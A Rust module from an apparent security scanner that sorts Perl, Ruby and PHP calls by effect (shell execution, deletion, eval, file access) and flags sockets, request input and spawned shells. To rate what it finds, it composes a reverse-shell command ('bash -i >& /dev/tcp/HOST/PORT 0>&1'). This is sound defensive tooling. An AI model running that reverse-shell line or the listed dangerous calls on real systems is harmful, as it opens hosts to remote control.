//! What a Perl, Ruby or PHP call does (`Effect`), sockets, shells spawned on them, request
//! input, and `open` modes.

use riskgate_model::Language;

use super::{FCall, Val, join_argv};

pub(super) enum Effect {
    Shell,
    Delete {
        recursive: bool,
    },
    Rmdir,
    Kill {
        pid_first: bool,
    },
    Open,
    Write {
        path_arg: usize,
        append: bool,
    },
    /// Reads the file its first argument names (`File.read`, `file_get_contents`).
    Read,
    Chmod {
        mode_first: bool,
    },
    /// Cuts the file its first argument names to the length its second gives.
    Truncate,
    /// Moves, copies or links its first path to its second: the command that does it
    /// (`mv`, `cp`, `cp -r`, `ln -s`, `ln`).
    Paths(&'static str),
    Eval,
    None,
}

/// What a call does, by its (qualified) name.
pub(super) fn effect(name: &str, lang: Language) -> Effect {
    let short = name.rsplit(['.', ':']).next().unwrap_or(name);
    match lang {
        Language::Perl => match name.trim_start_matches("CORE::") {
            "system" | "exec" | "qx" | "readpipe" | "`" => Effect::Shell,
            // IPC::System::Simple, IPC::Run, IPC::Run3, IPC::Open2/3 (after their handles)
            "systemx"
            | "capturex"
            | "IPC::System::Simple::system"
            | "IPC::System::Simple::systemx"
            | "IPC::System::Simple::capture"
            | "IPC::System::Simple::capturex"
            | "IPC::System::Simple::run"
            | "IPC::System::Simple::runx"
            | "run3"
            | "IPC::Run3::run3"
            | "IPC::Run::run"
            | "IPC::Run::start"
            | "open2"
            | "open3"
            | "IPC::Open2::open2"
            | "IPC::Open3::open3" => Effect::Shell,
            "unlink" => Effect::Delete { recursive: false },
            "rmtree" | "remove_tree" | "File::Path::rmtree" | "File::Path::remove_tree" => {
                Effect::Delete { recursive: true }
            }
            "rmdir" => Effect::Rmdir,
            "kill" => Effect::Kill { pid_first: false },
            "open" | "sysopen" => Effect::Open,
            "chmod" => Effect::Chmod { mode_first: true },
            "truncate" => Effect::Truncate,
            "rename" | "move" | "File::Copy::move" => Effect::Paths("mv"),
            "copy" | "File::Copy::copy" => Effect::Paths("cp"),
            "symlink" => Effect::Paths("ln -s"),
            "link" => Effect::Paths("ln"),
            "eval" => Effect::Eval,
            _ => Effect::None,
        },
        Language::Ruby => match name {
            "system" | "exec" | "spawn" | "Kernel.system" | "Kernel.exec" | "Kernel.spawn"
            | "IO.popen" | "Open3.capture2" | "Open3.capture2e" | "Open3.capture3"
            | "Open3.popen3" | "Open3.popen2" | "PTY.spawn" | "%x" | "`" => Effect::Shell,
            "Process.spawn"
            | "Process.exec"
            | "Open3.popen2e"
            | "Open3.pipeline"
            | "Open3.pipeline_r"
            | "Open3.pipeline_w"
            | "Open3.pipeline_rw"
            | "Open3.pipeline_start" => Effect::Shell,
            "File.delete"
            | "File.unlink"
            | "FileUtils.rm"
            | "FileUtils.rm_f"
            | "FileUtils.remove_file"
            | "FileUtils.safe_unlink" => Effect::Delete { recursive: false },
            "FileUtils.rm_rf"
            | "FileUtils.rm_r"
            | "FileUtils.rmtree"
            | "FileUtils.remove_dir"
            | "FileUtils.remove_entry"
            | "FileUtils.remove_entry_secure" => Effect::Delete { recursive: true },
            "Dir.rmdir" | "Dir.delete" | "Dir.unlink" | "FileUtils.rmdir" => Effect::Rmdir,
            "Process.kill" => Effect::Kill { pid_first: false },
            "File.write" | "IO.write" | "File.binwrite" => Effect::Write {
                path_arg: 0,
                append: false,
            },
            "File.open" | "File.new" => Effect::Open,
            "File.read" | "IO.read" | "File.binread" | "IO.binread" | "File.readlines"
            | "IO.readlines" | "File.foreach" | "IO.foreach" => Effect::Read,
            "File.chmod" | "FileUtils.chmod" | "FileUtils.chmod_R" => {
                Effect::Chmod { mode_first: true }
            }
            "File.truncate" => Effect::Truncate,
            "File.rename" | "FileUtils.mv" | "FileUtils.move" => Effect::Paths("mv"),
            "FileUtils.cp" | "FileUtils.copy" | "FileUtils.copy_file" | "FileUtils.install" => {
                Effect::Paths("cp")
            }
            "FileUtils.cp_r" | "FileUtils.copy_entry" => Effect::Paths("cp -r"),
            "File.symlink" | "FileUtils.ln_s" => Effect::Paths("ln -s"),
            "FileUtils.ln_sf" => Effect::Paths("ln -sf"),
            "File.link" | "FileUtils.ln" => Effect::Paths("ln"),
            "eval" | "instance_eval" | "class_eval" | "Kernel.eval" => Effect::Eval,
            _ => Effect::None,
        },
        Language::Php => match short.to_ascii_lowercase().as_str() {
            "system" | "exec" | "shell_exec" | "passthru" | "popen" | "proc_open"
            | "pcntl_exec" | "`" => Effect::Shell,
            "unlink" => Effect::Delete { recursive: false },
            "rmdir" => Effect::Rmdir,
            "posix_kill" => Effect::Kill { pid_first: true },
            "file_put_contents" => Effect::Write {
                path_arg: 0,
                append: false,
            },
            "fopen" => Effect::Open,
            "file_get_contents" | "file" | "readfile" | "highlight_file" | "show_source" => {
                Effect::Read
            }
            "chmod" => Effect::Chmod { mode_first: false },
            "rename" => Effect::Paths("mv"),
            "copy" => Effect::Paths("cp"),
            "symlink" => Effect::Paths("ln -s"),
            "link" => Effect::Paths("ln"),
            "eval" | "assert" | "create_function" => Effect::Eval,
            _ => Effect::None,
        },
        _ => Effect::None,
    }
}

pub(super) fn is_glob(name: &str) -> bool {
    matches!(name, "glob" | "Dir.glob" | "Dir[]" | "Dir" | "bsd_glob")
}

pub(super) fn is_socket(name: &str) -> bool {
    matches!(
        name,
        "socket"
            | "connect"
            | "IO::Socket::INET->new"
            | "IO::Socket::INET.new"
            // `new IO::Socket::INET(…)` (indirect object syntax)
            | "IO::Socket::INET"
            | "IO::Socket::IP"
            | "IO::Socket::IP.new"
    ) || matches!(
        name,
        "TCPSocket.new" | "TCPSocket.open" | "Socket.tcp" | "fsockopen" | "stream_socket_client"
    )
}

pub(super) fn spawns_shell(text: &str) -> bool {
    let first = text.split_whitespace().next().unwrap_or("");
    let prog = first.rsplit('/').next().unwrap_or(first);
    matches!(
        prog,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "cmd" | "cmd.exe"
    )
}

/// The reverse shell a socket plus a spawned shell amount to.
pub(super) fn reverse_shell(socket: Option<&FCall>) -> String {
    let strs: Vec<&str> = socket
        .map(|s| {
            s.args
                .iter()
                .filter_map(|v| match v {
                    Val::Str(x) | Val::Num(x) => Some(x.as_str()),
                    _ => None,
                })
                .collect()
        })
        .unwrap_or_default();
    let host = strs
        .iter()
        .find(|s| s.contains('.') || s.contains(':'))
        .copied()
        .unwrap_or("HOST");
    let port = strs
        .iter()
        .find(|s| s.chars().all(|c| c.is_ascii_digit()))
        .copied()
        .unwrap_or("PORT");
    format!("bash -i >& /dev/tcp/{host}/{port} 0>&1")
}

pub(super) fn is_request_input(raw: &str) -> bool {
    [
        "$_GET",
        "$_POST",
        "$_REQUEST",
        "$_COOKIE",
        "$_SERVER",
        "params[",
        "ARGV",
        "$ARGV",
        "gets",
        "STDIN",
    ]
    .iter()
    .any(|k| raw.contains(k))
}

/// `open(F, ">/etc/hosts")`, `open(F, '>', $p)`, `open(F, "cmd |")`, `File.open(p, "w")`,
/// `fopen(p, "a")`.
pub(super) fn open_effect(args: &[Val], lang: Language) -> Option<String> {
    let strs: Vec<Option<&str>> = args
        .iter()
        .map(|v| match v {
            Val::Str(s) => Some(s.as_str()),
            _ => None,
        })
        .collect();
    let (mode, path): (String, String) = match lang {
        Language::Perl => match (strs.get(1).copied().flatten(), args.get(2)) {
            (Some(m), Some(p)) if args.len() >= 3 => (m.trim().to_string(), p.word()),
            (Some(spec), _) => {
                let s = spec.trim();
                if let Some(cmd) = s.strip_suffix('|').or_else(|| s.strip_prefix('|')) {
                    return Some(cmd.trim().to_string());
                }
                let m: String = s
                    .chars()
                    .take_while(|c| matches!(c, '<' | '>' | '+'))
                    .collect();
                (m.clone(), s[m.len()..].trim().to_string())
            }
            _ => return None,
        },
        _ => {
            let m = strs.get(1).copied().flatten().unwrap_or("r").to_string();
            (m, args.first()?.word())
        }
    };
    if path.is_empty() {
        return None;
    }
    if mode == "-|" || mode == "|-" {
        return Some(path);
    }
    if mode.contains('a') || mode.contains(">>") {
        Some(format!(": >> {}", join_argv(&[path])))
    } else if mode.contains('w') || mode.contains('>') || mode.contains('+') {
        Some(format!(": > {}", join_argv(&[path])))
    } else {
        // opened for reading: what `cat` of it reads (a credential file is rated as one)
        read_command(&path)
    }
}

/// The shell command that reads what a read call reads: `cat -- PATH` (a URL is fetched, not
/// read from disk; an unknown path reads nothing known).
pub(super) fn read_command(path: &str) -> Option<String> {
    let p = path.trim();
    if p.is_empty() || p.contains("://") || p.starts_with("php://") || p == "$ARG" {
        return None;
    }
    Some(format!("cat -- {}", join_argv(&[p.to_string()])))
}

// ---------------------------------------------------------------------------------------
// Scanner
